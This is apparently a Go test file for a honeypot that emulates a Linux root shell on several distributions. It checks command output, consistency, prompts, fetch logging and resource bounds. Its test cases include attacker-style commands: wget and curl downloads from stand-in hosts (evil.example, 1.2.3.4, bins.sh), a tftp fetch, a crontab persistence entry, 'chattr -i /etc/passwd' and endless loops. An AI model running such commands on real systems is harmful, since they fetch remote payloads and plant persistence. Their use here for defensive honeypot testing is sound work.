package shell

import (
	"bytes"
	"strings"
	"testing"

	"github.com/decnet/decnet/internal/persona"
)

func newShell(t *testing.T, distro string) *Shell {
	t.Helper()
	d, ok := persona.LookupDistro(distro)
	if !ok {
		t.Fatalf("no distro %s", distro)
	}
	return New(Machine{Distro: d, Hostname: "web42.example", Identity: persona.NewIdentity("seed", "decky-01")}, "root")
}

func run(s *Shell, line string) (string, int) {
	var b bytes.Buffer
	code := s.Run(line, &b)
	return b.String(), code
}

func TestCommands(t *testing.T) {
	for _, tc := range []struct {
		name   string
		distro string
		login  bool
		lines  []string // run in order; the last one is checked
		want   string   // exact output, unless contains is set
		has    []string
		not    []string
		code   int
	}{
		{name: "uname -a", distro: "debian", lines: []string{"uname -a"},
			want: "Linux web42.example 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux\n"},
		{name: "uname -r", distro: "ubuntu22", lines: []string{"uname -r"}, want: "5.15.0-119-generic\n"},
		{name: "uname -m -s -n", distro: "debian", lines: []string{"uname -s -n -m"}, want: "Linux web42.example x86_64\n"},
		{name: "uname no flags", distro: "debian", lines: []string{"uname"}, want: "Linux\n"},
		{name: "id", distro: "debian", lines: []string{"id"}, want: "uid=0(root) gid=0(root) groups=0(root)\n"},
		{name: "whoami", distro: "debian", lines: []string{"whoami"}, want: "root\n"},
		{name: "hostname", distro: "debian", lines: []string{"hostname"}, want: "web42.example\n"},
		{name: "os-release", distro: "debian", lines: []string{"cat /etc/os-release"}, has: []string{`PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"`, "ID=debian\n", `VERSION_ID="12"`}},
		{name: "os-release rocky", distro: "rocky9", lines: []string{"cat /etc/os-release"}, has: []string{"ID=rocky", `ID_LIKE="rhel centos fedora"`}},
		{name: "proc version", distro: "debian", lines: []string{"cat /proc/version"}, has: []string{"Linux version 6.1.0-28-amd64"}},
		{name: "cpuinfo", distro: "debian", lines: []string{"grep -c processor /proc/cpuinfo"}},
		{name: "nproc matches cpuinfo", distro: "debian", lines: []string{"nproc"}},
		{name: "passwd", distro: "debian", lines: []string{"head -n 1 /etc/passwd"}, want: "root:x:0:0:root:/root:/bin/bash\n"},
		{name: "echo -e", distro: "debian", lines: []string{`echo -e "a\tb\x41\n"`}, want: "a\tbA\n\n"},
		{name: "echo -n", distro: "debian", lines: []string{"echo -n hi"}, want: "hi"},
		{name: "echo quoting", distro: "debian", lines: []string{`echo 'a  b' "c $HOME" \$x`}, want: "a  b c /root $x\n"},
		{name: "printf", distro: "debian", lines: []string{`printf '%s-%d\n' a 1 b 2`}, want: "a-1\nb-2\n"},
		{name: "pipe", distro: "debian", lines: []string{"echo hello | wc -c"}, want: "6\n"},
		{name: "and or", distro: "debian", lines: []string{"false && echo no || echo yes; echo end"}, want: "yes\nend\n"},
		{name: "and chain", distro: "debian", lines: []string{"true && echo a && echo b"}, want: "a\nb\n"},
		{name: "redirect", distro: "debian", lines: []string{"echo one > /tmp/f", "echo two >> /tmp/f", "cat /tmp/f"}, want: "one\ntwo\n"},
		{name: "redirect stderr", distro: "debian", lines: []string{"cat /nope 2>/dev/null; echo $?"}, want: "1\n"},
		{name: "cd pwd", distro: "debian", lines: []string{"cd /var/log", "pwd"}, want: "/var/log\n"},
		{name: "cd missing", distro: "debian", login: true, lines: []string{"cd /nope"}, want: "-bash: cd: /nope: No such file or directory\n", code: 1},
		{name: "mkdir touch ls", distro: "debian", lines: []string{"mkdir -p /tmp/a/b", "touch /tmp/a/b/x", "ls /tmp/a/b"}, want: "x\n"},
		{name: "ls -la", distro: "debian", lines: []string{"ls -la /root"}, has: []string{"total ", ".bashrc", "drwx------", " .\n"}},
		{name: "rm", distro: "debian", lines: []string{"touch /tmp/z", "rm -f /tmp/z", "ls /tmp/z"}, want: "ls: cannot access '/tmp/z': No such file or directory\n", code: 2},
		{name: "mv cp", distro: "debian", lines: []string{"echo x > /tmp/m", "cp /tmp/m /tmp/c", "mv /tmp/m /tmp/n", "cat /tmp/c /tmp/n"}, want: "x\nx\n"},
		{name: "chmod exec script", distro: "debian", lines: []string{"echo 'echo from script' > /tmp/s.sh", "chmod +x /tmp/s.sh", "/tmp/s.sh"}, want: "from script\n"},
		{name: "not executable", distro: "debian", login: true, lines: []string{"echo x > /tmp/s", "./../tmp/s"}, want: "-bash: ./../tmp/s: Permission denied\n", code: 126},
		{name: "unknown command login", distro: "debian", login: true, lines: []string{"foobar -x"}, want: "-bash: foobar: command not found\n", code: 127},
		{name: "unknown command exec", distro: "debian", lines: []string{"foobar"}, want: "bash: line 1: foobar: command not found\n", code: 127},
		{name: "unknown command ubuntu20", distro: "ubuntu20", lines: []string{"foobar"}, want: "bash: foobar: command not found\n", code: 127},
		{name: "busybox applet not found", distro: "debian", lines: []string{"/bin/busybox ECCHI"}, want: "ECCHI: applet not found\n", code: 127},
		{name: "busybox applet", distro: "debian", lines: []string{"busybox echo hi"}, want: "hi\n"},
		{name: "sh -c", distro: "debian", lines: []string{`sh -c "echo a; echo b"`}, want: "a\nb\n"},
		{name: "command substitution", distro: "debian", lines: []string{"echo $(uname -m)-`whoami`"}, want: "x86_64-root\n"},
		{name: "export env", distro: "debian", lines: []string{"export FOO=bar", "env | grep FOO"}, want: "FOO=bar\n"},
		{name: "which", distro: "debian", lines: []string{"which wget ls"}, want: "/usr/bin/wget\n/usr/bin/ls\n"},
		{name: "crontab", distro: "debian", lines: []string{"crontab -l"}, want: "no crontab for root\n", code: 1},
		{name: "crontab from a subshell", distro: "debian", lines: []string{`(crontab -l 2>/dev/null; echo "* * * * * /tmp/.x") | crontab -`, "crontab -l"}, want: "* * * * * /tmp/.x\n"},
		{name: "subshell keeps its directory", distro: "debian", lines: []string{"cd /root", "(cd /tmp; pwd); pwd"}, want: "/tmp\n/root\n"},
		{name: "subshell exit", distro: "debian", lines: []string{"(exit 3); echo $?"}, want: "3\n"},
		{name: "nested subshells", distro: "debian", lines: []string{`( (echo "a)b"; echo c) | wc -l )`}, want: "2\n"},
		{name: "stray paren", distro: "debian", lines: []string{"echo )"}, has: []string{"syntax error"}, code: 2},
		{name: "wget options after the URL", distro: "debian", lines: []string{"wget http://1.2.3.4/x -O /tmp/.x"}, has: []string{"Connecting to 1.2.3.4:80... failed"}, not: []string{"/tmp/.x"}, code: 4},
		{name: "history", distro: "debian", lines: []string{"echo a", "history"}, want: "    1  echo a\n    2  history\n"},
		{name: "free", distro: "debian", lines: []string{"free -m"}, has: []string{"Mem:", "Swap:"}},
		{name: "ps", distro: "debian", lines: []string{"ps aux"}, has: []string{"/sbin/init", "sshd: root@pts/0"}},
		{name: "w", distro: "debian", lines: []string{"w"}, has: []string{" up ", "load average"}},
		{name: "ip a", distro: "debian", lines: []string{"ip a"}, has: []string{"eth0", "inet 10."}},
		{name: "ifconfig", distro: "debian", lines: []string{"ifconfig"}, has: []string{"eth0: flags=4163"}},
		{name: "netstat", distro: "debian", lines: []string{"netstat -tulpn"}, has: []string{"0.0.0.0:22"}},
		{name: "top", distro: "debian", lines: []string{"top -bn1"}, has: []string{"top - ", "PID USER"}},
		{name: "lscpu", distro: "debian", login: true, lines: []string{"lscpu"}, has: []string{"Architecture:            x86_64", "    Model:               85\n"}},
		{name: "lscpu piped", distro: "debian", lines: []string{"lscpu | grep CPU"}, has: []string{"CPU(s):                                  "}},
		{name: "chattr", distro: "debian", lines: []string{"chattr -i /etc/passwd"}, want: ""},
		{name: "wget", distro: "debian", lines: []string{"wget http://evil.example/x.sh"}, has: []string{"unable to resolve host address"}, code: 4},
		{name: "curl", distro: "debian", lines: []string{"curl http://1.2.3.4/x"}, has: []string{"curl: (7)"}, code: 7},
		{name: "curl -s", distro: "debian", lines: []string{"curl -s http://1.2.3.4/x"}, want: "", code: 7},
		{name: "exec format error", distro: "debian", login: true, lines: []string{"printf '\\177ELF\\001\\001\\001\\000\\000\\000\\000\\000\\000\\000\\000\\000\\002\\000\\010\\000' > /tmp/m", "chmod 755 /tmp/m", "/tmp/m"},
			want: "-bash: /tmp/m: cannot execute binary file: Exec format error\n", code: 126},
		{name: "syntax error", distro: "debian", login: true, lines: []string{"echo a ;; echo b"}, has: []string{"syntax error near unexpected token"}, code: 2},
		{name: "rhel prompt", distro: "rocky9", lines: []string{"echo $0"}, want: "-bash\n"},
		{name: "alpine not found", distro: "alpine", login: true, lines: []string{"foobar"}, want: "-ash: foobar: not found\n", code: 127},
		{name: "variables", distro: "debian", lines: []string{"X=5", "echo ${X} ${Y:-def} $?"}, want: "5 def 0\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s := newShell(t, tc.distro)
			s.Login = tc.login
			var out string
			var code int
			for _, l := range tc.lines {
				out, code = run(s, l)
			}
			if tc.want != "" || (tc.has == nil && tc.want == "" && tc.name == "chattr") {
				if out != tc.want {
					t.Errorf("output = %q, want %q", out, tc.want)
				}
			}
			for _, h := range tc.has {
				if !strings.Contains(out, h) {
					t.Errorf("output lacks %q:\n%s", h, out)
				}
			}
			for _, h := range tc.not {
				if strings.Contains(out, h) {
					t.Errorf("output has %q:\n%s", h, out)
				}
			}
			if code != tc.code {
				t.Errorf("exit = %d, want %d (output %q)", code, tc.code, out)
			}
		})
	}
}

func TestConsistency(t *testing.T) {
	s := newShell(t, "debian")
	cpus, _ := run(s, "nproc")
	count, _ := run(s, "grep -c processor /proc/cpuinfo")
	if cpus != count {
		t.Errorf("nproc %q != cpuinfo count %q", cpus, count)
	}
	h1, _ := run(s, "cat /etc/hostname")
	h2, _ := run(s, "uname -n")
	if h1 != h2 {
		t.Errorf("hostname %q != uname -n %q", h1, h2)
	}
	// Same identity, same machine.
	a, _ := run(newShell(t, "debian"), "cat /proc/cpuinfo | head -n 5; ls -l /etc/passwd")
	b, _ := run(newShell(t, "debian"), "cat /proc/cpuinfo | head -n 5; ls -l /etc/passwd")
	if a != b {
		t.Errorf("machine differs between sessions:\n%s\n%s", a, b)
	}
}

func TestFetchHook(t *testing.T) {
	s := newShell(t, "debian")
	var got []Fetch
	s.OnFetch = func(f Fetch) { got = append(got, f) }
	run(s, "cd /tmp; wget http://1.2.3.4/bins.sh; curl -O http://x.example/a; busybox wget http://y/z; tftp -g -r m 5.6.7.8")
	want := []Fetch{{"wget", "http://1.2.3.4/bins.sh"}, {"curl", "http://x.example/a"}, {"wget", "http://y/z"}, {"tftp", "tftp://5.6.7.8/m"}}
	if len(got) != len(want) {
		t.Fatalf("fetches = %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("fetch %d = %v, want %v", i, got[i], want[i])
		}
	}
}

func TestBounds(t *testing.T) {
	s := newShell(t, "debian")
	out, _ := run(s, "yes")
	if len(out) > MaxOutput {
		t.Errorf("yes printed %d bytes", len(out))
	}
	big := strings.Repeat("A", 60<<10)
	for i := 0; i < 600; i++ {
		run(s, "echo "+big+" >> /tmp/big")
	}
	n, err := s.FS.Stat("/tmp/big")
	if err != nil || n.Size() > DefaultMaxBytes {
		t.Errorf("file grew to %v (%v)", n, err)
	}
	out, _ = run(s, "echo $(echo $(echo $(echo $(echo deep))))")
	if strings.Count(out, "\n") != 1 {
		t.Errorf("nested substitution output %q", out)
	}
	out, _ = run(s, "echo 'sh -c \"sh /tmp/loop\"' > /tmp/loop; sh /tmp/loop; echo done")
	if !strings.Contains(out, "done") {
		t.Errorf("recursive script: %q", out)
	}
}

func TestPrompt(t *testing.T) {
	for _, tc := range []struct{ distro, cwd, want string }{
		{"debian", "/root", "root@web42:~# "},
		{"debian", "/tmp", "root@web42:/tmp# "},
		{"rocky9", "/var/log", "[root@web42 log]# "},
		{"alpine", "/root", "web42:~# "},
	} {
		s := newShell(t, tc.distro)
		s.Cwd = tc.cwd
		if got := s.Prompt(); got != tc.want {
			t.Errorf("%s prompt = %q, want %q", tc.distro, got, tc.want)
		}
	}
}

func newFuzzShell() *Shell {
	d, _ := persona.LookupDistro("debian")
	return New(Machine{Distro: d, Hostname: "fuzz", Identity: persona.NewIdentity("seed", "fuzz")}, "root")
}

// TestNestedLoopsAreBounded: an attacker's nested endless loops end
// within the step budget of one line.
func TestNestedLoopsAreBounded(t *testing.T) {
	s := newShell(t, "debian")
	run(s, "while true; do while true; do while true; do :; done; done; done; echo after")
	if s.steps > maxSteps+maxDepth { // each loop level counts its last check
		t.Fatalf("%d loop steps for one line, budget %d", s.steps, maxSteps)
	}
	if out, _ := run(s, "echo next"); out != "next\n" {
		t.Fatalf("the shell after the loops: %q", out)
	}
}
